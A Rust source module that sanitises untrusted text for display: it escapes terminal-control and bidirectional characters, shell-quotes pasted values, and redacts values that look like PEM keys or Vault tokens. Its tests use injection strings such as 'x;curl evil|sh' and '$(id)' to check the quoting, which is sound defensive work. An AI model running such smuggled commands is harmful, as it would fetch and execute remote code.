//! Text that others have a say in, made fit for a message.
#![deny(
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    clippy::as_conversions
)]

/// `text` without what could move a terminal's cursor, start a line of its own, turn the reading
/// direction, or hide.
pub fn printable(text: &str) -> String {
    text.chars()
        .flat_map(|c| {
            let escaped = is_unprintable(c).then(|| c.escape_default());
            let plain = (!is_unprintable(c)).then_some(c);
            escaped.into_iter().flatten().chain(plain)
        })
        .collect()
}

/// `text` as one word of a shell's command line: what is printed to be pasted may have been written by
/// whoever wants it to be pasted.
pub(crate) fn quoted(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_@%+=:,./-".contains(&byte);
    if !text.is_empty() && text.bytes().all(plain) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// Whether somebody typed a key where its place belongs: PEM, PEM in base64 as CI variables hold it,
/// or a line of one. No path of this length is without a dot, a dash or a slash in front.
pub(crate) fn is_key_material(text: &str) -> bool {
    let base64 = |byte: u8| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte);
    holds_key_block(text)
        || (text.len() >= 60 && !text.starts_with('/') && text.bytes().all(base64))
}

/// Whether PEM is in a text, or PEM in base64.
pub(crate) fn holds_key_block(text: &str) -> bool {
    text.contains("-----BEGIN ") || text.contains("LS0tLS1CRUdJTi")
}

/// Whether somebody typed a token of Vault where a key belongs
/// ([forms](https://developer.hashicorp.com/vault/docs/concepts/tokens#token-prefixes)).
pub(crate) fn is_vault_token(rest: &str) -> bool {
    let of_now = ["hvs.", "hvb.", "hvr."];
    let of_old = ["s.", "b.", "r."];
    of_now.iter().any(|start| rest.starts_with(start))
        || (rest.len() >= 26 && of_old.iter().any(|start| rest.starts_with(start)))
}

/// A path as it may be shown: somebody may have put the secret itself where its file belongs.
pub(crate) fn shown_path(path: &str) -> &str {
    let secret = is_key_material(path)
        || path.contains(char::is_control)
        || (path.split('.').count() == 3 && path.len() > 60 && !path.contains('/'))
        || is_vault_token(path);
    if secret { "…" } else { path }
}

/// A value as it may be shown, unless it may be a secret.
pub(crate) fn shown_value(value: &str) -> &str {
    let text = value.trim();
    let secret = is_key_material(text) || is_vault_token(text);
    if secret { "…" } else { value }
}

fn is_unprintable(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{00ad}'
                | '\u{061c}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}'
                | '\u{feff}'
                | '\u{e0000}'..='\u{e007f}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_keeps_its_line_and_its_direction() {
        assert_eq!(
            printable("a\n::error::\u{1b}[31m\u{202e}é"),
            "a\\n::error::\\u{1b}[31m\\u{202e}é"
        );
    }

    #[test]
    fn what_is_pasted_is_one_word() {
        assert_eq!(
            quoted("arn:aws:iam::1:role/a_b@c"),
            "arn:aws:iam::1:role/a_b@c"
        );
        assert_eq!(quoted("x;curl evil|sh"), "'x;curl evil|sh'");
        assert_eq!(quoted("$(id)'`"), r"'$(id)'\''`'");
        assert_eq!(quoted(""), "''");
    }
}
